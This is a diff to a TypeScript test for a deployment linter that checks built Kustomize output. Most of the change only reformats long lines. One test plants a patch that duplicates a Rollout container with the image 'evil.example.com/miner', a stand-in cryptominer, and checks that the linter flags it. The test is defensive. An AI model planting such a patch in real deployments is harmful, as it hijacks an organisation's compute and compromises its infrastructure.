@@ -8,7 +8,9 @@ import { lintBuilt } from "./built.ts";
 let folder: string;
 beforeEach(async () => {
   folder = await mkdtemp(join(tmpdir(), "slipway-built-"));
-  await cp(join(import.meta.dirname, "../../environments"), join(folder, "environments"), { recursive: true });
+  await cp(join(import.meta.dirname, "../../environments"), join(folder, "environments"), {
+    recursive: true,
+  });
   await mkdir(join(folder, "environments/dev/product/release"));
   for (const [path, text] of Object.entries(releaseFiles("dev", releaseOf("product")))) {
     await writeFile(join(folder, path), text);
@@ -31,6 +33,14 @@ test("what the repository holds builds, with a release too; what a patch plants 
     "patches:\n  - target: { kind: Rollout }\n    patch: |-\n      - { op: copy, from: /spec/template/spec/containers/0, path: /spec/template/spec/containers/- }\n      - { op: replace, path: /spec/template/spec/containers/1/image, value: evil.example.com/miner }\n",
   );
   const found = await lintBuilt(folder);
-  expect(found).toContainEqual(expect.stringMatching(/^environments\/prod\/platform\/kustomization\.yaml: the namespace lacks the sync option Prune=confirm/));
-  expect(found).toContainEqual(expect.stringMatching(/^environments\/dev\/product\/kustomization\.yaml: Rollout\/product .*evil\.example\.com\/miner/));
+  expect(found).toContainEqual(
+    expect.stringMatching(
+      /^environments\/prod\/platform\/kustomization\.yaml: the namespace lacks the sync option Prune=confirm/,
+    ),
+  );
+  expect(found).toContainEqual(
+    expect.stringMatching(
+      /^environments\/dev\/product\/kustomization\.yaml: Rollout\/product .*evil\.example\.com\/miner/,
+    ),
+  );
 });
